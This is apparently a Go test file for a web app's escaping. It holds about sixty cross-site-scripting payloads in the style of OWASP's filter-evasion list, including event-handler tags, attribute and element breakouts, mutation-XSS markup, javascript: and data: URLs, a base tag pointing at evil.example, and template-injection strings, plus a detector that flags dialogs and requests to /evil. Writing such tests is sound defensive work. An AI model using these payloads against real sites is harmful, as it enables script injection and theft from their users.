package peertest

import "strings"

// Payloads are texts that run a script, ask for /evil or leave the page where somebody
// writes them into one as markup, an attribute, an address, a style or a script. What
// keeps a text a text shows each of them as it is.
//
// They are of the kinds that OWASP's page "XSS Filter Evasion" names, each written for
// what Tab.Harm sees.
var Payloads = []string{
	// Elements that run something by themselves.
	`<img src=x onerror="alert('xss')">`,
	`<svg onload=alert('xss')>`,
	`<script>alert('xss')</script>`,
	`<SCRIPT SRC=/evil></SCRIPT>`,
	`<scr<script>ipt>alert('xss')</scr</script>ipt>`,
	`<video><source onerror=alert('xss')></video>`,
	`<audio src=x onerror=alert('xss')>`,
	`<details open ontoggle=alert('xss')>`,
	`<body onload=alert('xss')>`,
	`<input autofocus onfocus=alert('xss')>`,
	`<select autofocus onfocus=alert('xss')></select>`,
	`<marquee onstart=alert('xss')>a</marquee>`,
	`<object data="/evil"></object>`,
	`<embed src=/evil>`,
	`<img src=/evil>`,
	`<img srcset="/evil 1x">`,
	`<picture><source srcset=/evil><img src=x></picture>`,
	`<input type=image src=/evil>`,
	`<table background=/evil><tr><td>a</table>`,
	`<style>@import '/evil';</style><link rel=stylesheet href=/evil>`,
	`<link rel=prefetch href=/evil><link rel=modulepreload href=/evil>`,
	`<div style="background:url(/evil)">a</div>`,
	`<iframe src="javascript:alert('xss')"></iframe>`,
	`<iframe srcdoc="&lt;script&gt;parent.alert('xss')&lt;/script&gt;"></iframe>`,
	`<template shadowrootmode=open><img src=/evil></template>`,
	// Out of an attribute, an element or a comment.
	`"><img src="/evil?quote">`,
	`'><iframe srcdoc="<script>alert('xss')</script>"></iframe>`,
	`" onmouseover="alert('xss')" onfocus="alert('xss')" autofocus="`,
	`' autofocus onfocus='alert("xss")`,
	"` onerror=alert('xss') src=/evil `",
	`</textarea></div><form action=/evil><button autofocus onfocus=alert('xss')>`,
	`</title><script>alert('xss')</script>`,
	`</style><img src=/evil>`,
	`</script><script>alert('xss')</script>`,
	`--><img src=/evil><!--`,
	`]]><img src=/evil>`,
	`</option></select><img src=/evil>`,
	`</template><img src=/evil>`,
	// Other kinds of markup, and what a parser makes of it.
	`<svg><animate onbegin=alert('xss') attributeName=x dur=1s></svg>`,
	`<svg><script href="data:,alert('xss')"/></svg>`,
	`<svg><image href=/evil></svg>`,
	`<svg><style><img src=/evil></style></svg>`,
	`<math><mtext><table><mglyph><style><img src=/evil></style></mglyph></table></mtext></math>`,
	`<noscript><p title="</noscript><img src=/evil>">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src=/evil>`,
	`<a href="javascript:alert('xss')" id=lure>javascript:alert('xss')</a>`,
	// Addresses.
	`javascript:alert('xss')//http://hobla.example`,
	`java	script:alert('xss')`,
	`data:text/html,<script>alert('xss')</script> vbscript:alert('xss')`,
	`https://hobla.example/"onmouseover="alert('xss')`,
	`http://hobla.example/<img src=/evil>`,
	`https://user:secret@hobla.example/`,
	`<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=/evil">`,
	// What templates, scripts and data make of it.
	`{{constructor.constructor('alert(1)')()}} ${alert('xss')}`,
	`');alert('xss');('`,
	`\u003cimg src=/evil\u003e \x3cimg src=/evil\x3e`,
	`{"__proto__":{"innerHTML":"<img src=/evil>"}}`,
	`&lt;img src=x onerror=alert('xss')&gt; &#x3C;script&#x3E; %3Cimg src=/evil%3E`,
	"a\u2028b\u2029<img src=/evil>",
	"\u202Egnp.exe\u202C \u0000<img src=x onerror=alert('xss')>",
}

// Harm is what the tab did that only a payload makes it do: it asked somebody, or fetched
// what no page of ours has.
func (t *Tab) Harm() (harm []string) {
	harm = t.Dialogs()
	for _, r := range t.Requests() {
		if strings.Contains(r, "/evil") || strings.Contains(r, "evil.example") {
			harm = append(harm, r)
		}
	}
	return harm
}

// Foreign finds elements that a payload makes and no page of ours has. It counts what a
// payload's markup would become, also where nothing of it ran.
const Foreign = `[...document.querySelectorAll('[onerror], [onload], [onfocus], [onmouseover], [onbegin], [ontoggle], [onstart], [src*=evil], [srcset*=evil], [href*=evil]:not(a), [data*=evil], [action*=evil], [background], [srcdoc], [href^="javascript:" i], [href^="data:" i], marquee, object, embed, base, mglyph, #lure')].map((n) => n.outerHTML.slice(0, 120))`
